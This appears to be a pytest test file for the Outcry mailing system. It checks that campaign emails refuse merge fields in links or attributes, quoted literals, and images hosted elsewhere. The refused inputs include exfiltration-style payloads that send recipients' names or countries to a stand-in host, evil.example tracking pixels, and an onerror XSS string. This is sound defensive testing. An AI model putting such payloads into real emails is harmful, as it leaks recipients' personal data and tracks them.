"""A mailing cannot carry recipients off: merge fields only in text, no literals, images
only from Outcry's own media, links that carry the recipient's token and nothing else."""

import re
from html import unescape

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import translation

from outcry.cases.models import CaseUpdate
from outcry.mailings import services
from outcry.mailings.composition import compile_variant
from outcry.mailings.merge import URL_FIELDS, merge_tags_in_attributes
from outcry.mailings.models import Mailing, MailingRecipient, MailingVariant
from tests import actors
from tests.factories import PetitionFactory
from tests.mailings.conftest import make_alert, make_supporters

pytestmark = pytest.mark.django_db(transaction=True)

IN_ATTRIBUTE = "inside an HTML attribute"
IN_ADDRESS = "part of a web address"
NO_LITERAL = "no text in quotes"
PLAIN_FALLBACK = "Only a plain-text fallback is allowed"
REMOTE_IMAGE = "is not on this site"

REFUSED = [
    # 1. Merge fields stand in text, never in an attribute (or a web address in text).
    ("[Sign](https://evil.example/?n={{ first_name }})", IN_ATTRIBUTE),
    ("[Sign](/en/petitions/x/?c={{ country }})", IN_ATTRIBUTE),
    ('<a href="/en/" title="{{ last_name }}">Sign</a>', IN_ATTRIBUTE),
    ("![{{ first_name }}](/media/elena.jpg)", IN_ATTRIBUTE),
    ("<https://evil.example/{{ first_name }}>", IN_ATTRIBUTE),
    ("Visit https://evil.example/?n={{ first_name }} now", IN_ADDRESS),
    ("Visit www.evil.example/{{ country|lower }} now", IN_ADDRESS),
    # 2. No literal, no filter argument but a plain-text fallback, no tag.
    ('{{ "<img src=x onerror=alert(1)>" }}', NO_LITERAL),
    ("{{ 42 }}", NO_LITERAL),
    ('{{ first_name|default:"<img src=x onerror=alert(1)>" }}', PLAIN_FALLBACK),
    ("{{ first_name|default:last_name }}", PLAIN_FALLBACK),
    ("{% if first_name %}hi{% endif %}", "no {% tags %}"),
    # 3. Images only from Outcry's own media.
    ("![pixel](https://evil.example/pixel.gif)", REMOTE_IMAGE),
    ('<img src="//evil.example/pixel.gif" alt="">', REMOTE_IMAGE),
    ("![pixel](http://outcry.example.evil.example/media/p.gif)", REMOTE_IMAGE),
]


def _post_new_mailing(client, body: str):
    return client.post(
        reverse("admin:mailings_mailing_add"),
        {
            "name": "Exfiltration",
            "default_language": "en",
            "variants-TOTAL_FORMS": "1",
            "variants-INITIAL_FORMS": "0",
            "variants-0-language": "en",
            "variants-0-subject": "Hello",
            "variants-0-body": body,
        },
    )


@pytest.mark.parametrize(("body", "message"), REFUSED)
def test_admin_form_refuses_unsafe_body_with_a_message(client, mailing_settings, body, message):
    actors.logged_in(client, actors.campaigner())
    response = _post_new_mailing(client, body)
    assert response.status_code == 200
    assert message in unescape(response.content.decode())
    assert not Mailing.objects.exists()


@pytest.mark.parametrize(("body", "message"), REFUSED)
def test_services_refuse_unsafe_body(mailing_settings, body, message):
    make_supporters(2)
    mailing = make_alert()
    variant = mailing.variants.get(language="en")
    variant.body = body
    with pytest.raises(ValidationError, match=re.escape(message)):
        variant.full_clean()
    # Even when it got into the database some other way, it is never composed or sent.
    variant.save()
    with pytest.raises(ValidationError, match=re.escape(message)):
        services.mailing_schedule(mailing=mailing, actor=None)
    with pytest.raises(ValidationError, match=re.escape(message)):
        services.mailing_render_for(mailing=mailing, language="en", supporter=None, actor=None)
    with pytest.raises(ValidationError, match=re.escape(message)):
        compile_variant(variant, mailing=mailing)
    assert Mailing.objects.get(pk=mailing.pk).status == Mailing.Status.DRAFT


@pytest.mark.parametrize("field", ["subject", "preheader", "reason"])
def test_merge_field_in_a_web_address_is_refused_in_every_field(mailing_settings, field):
    variant = make_alert().variants.get(language="en")
    setattr(variant, field, "See https://evil.example/{{ first_name }}")
    with pytest.raises(ValidationError, match=IN_ADDRESS):
        variant.full_clean()


def test_merge_fields_in_text_and_links_without_them_are_accepted(mailing_settings):
    variant = make_alert().variants.get(language="en")
    variant.body = (
        'Dear {{ first_name|default:"friend" }} in {{ country }},\n\n'
        "[Sign](https://outcry.example/en/petitions/x/) or https://outcry.example/en/ "
        "{{ last_name|upper }}\n\n![Elena](/media/cases/elena.jpg) "
        "![Logo](https://outcry.example/media/logo.png)"
    )
    variant.full_clean()


def test_own_media_images_are_sent_with_their_full_address(mailing_settings):
    mailing = make_alert()
    MailingVariant.objects.filter(mailing=mailing, language="en").update(
        body="Hello\n\n![Elena](/media/cases/elena.jpg)"
    )
    html = services.mailing_render_for(mailing=mailing, language="en", supporter=None, actor=None)[
        "html"
    ]
    assert 'src="https://outcry.example/media/cases/elena.jpg"' in html


def test_fallback_text_is_escaped_like_a_name(mailing_settings):
    mailing = make_alert()
    MailingVariant.objects.filter(mailing=mailing, language="en").update(
        body='Dear {{ first_name|default:"Tom & l\'ami" }},'
    )
    rendered = services.mailing_render_for(
        mailing=mailing, language="en", supporter=None, actor=None
    )
    assert "Dear Tom &amp; l&#x27;ami," in rendered["html"]
    assert "Dear Tom & l'ami," in rendered["text"]


def test_layout_links_may_hold_only_the_token_fields():
    assert (
        merge_tags_in_attributes('<a href="{{ unsubscribe_url }}">x</a>', allowed=URL_FIELDS) == []
    )
    for html in [
        '<a href="{{ first_name }}">x</a>',
        '<a href="{{ unsubscribe_url }}?n={{ country }}">x</a>',
        '<img src="/media/x.png" alt="{{ view_url }}x">',
    ]:
        assert merge_tags_in_attributes(html, allowed=URL_FIELDS), html


def test_sent_links_carry_the_token_but_never_name_or_country(
    raw_smtp, mailing_settings, dkim_key, tasks
):
    (supporter, address), *_ = make_supporters(2, country="FR", subscribe="RU")
    mailing = make_alert()
    services.mailing_schedule(mailing=mailing, actor=None)
    tasks.run()

    message = next(
        m for m in raw_smtp.handler.messages if m["To"].addresses[0].addr_spec == address
    )
    recipient = MailingRecipient.objects.get(mailing=mailing, supporter=supporter)
    html = message.get_body(preferencelist=("html",)).get_content()
    text = message.get_body(preferencelist=("plain",)).get_content()
    number = address.removeprefix("person").removesuffix("@example.org")
    assert f"First{number}" in text  # the name is in the text ...
    links = [unescape(u) for u in re.findall(r'(?:href|src)="([^"]*)"', html)]
    links += re.findall(r"(?:https?|mailto):\S+", text)
    links.append(message["List-Unsubscribe"])
    assert any(recipient.token in link for link in links)
    for link in links:  # ... and in no link
        for personal in (f"First{number}", f"Last{number}", "France"):
            assert personal not in link, link
        # The country code as a part of the address (a path segment, a query value); the
        # random token itself may hold the letters "FR" by chance.
        assert not re.search(r"(?:^|[/?&=#;:.])FR(?:$|[/?&=#;:.])", link), link


def test_case_update_with_a_remote_image_is_refused_as_a_draft(client, mailing_settings):
    case = PetitionFactory().case
    CaseUpdate.objects.create(
        case=case,
        date="2026-11-20",
        title="Released",
        body="Good news.\n\n![](https://evil.example/pixel.gif)",
    )
    update = case.updates.get()
    with pytest.raises(ValidationError, match=REMOTE_IMAGE):
        services.mailing_from_case_update(update=update, actor=None)
    assert not Mailing.objects.exists()

    actors.logged_in(client, actors.campaigner())
    response = client.post(reverse("admin:mailing-from-case", args=[case.pk]), follow=True)
    assert REMOTE_IMAGE in unescape(response.content.decode())
    assert not Mailing.objects.exists()


@pytest.mark.parametrize(
    ("body", "french"),
    [
        ("[Sign](https://evil.example/?n={{ first_name }})", "dans un attribut HTML"),
        ("Visit https://evil.example/?n={{ first_name }} now", "fait partie d'une adresse web"),
        ('{{ "<b>" }}', "pas de texte entre guillemets"),
        ("{{ first_name|default:last_name }}", "texte de remplacement simple"),
        ("![pixel](https://evil.example/pixel.gif)", "n'est pas sur ce site"),
    ],
)
def test_refusals_are_explained_in_french(mailing_settings, body, french):
    variant = make_alert().variants.get(language="en")
    variant.body = body
    with translation.override("fr"), pytest.raises(ValidationError, match=re.escape(french)):
        variant.full_clean()
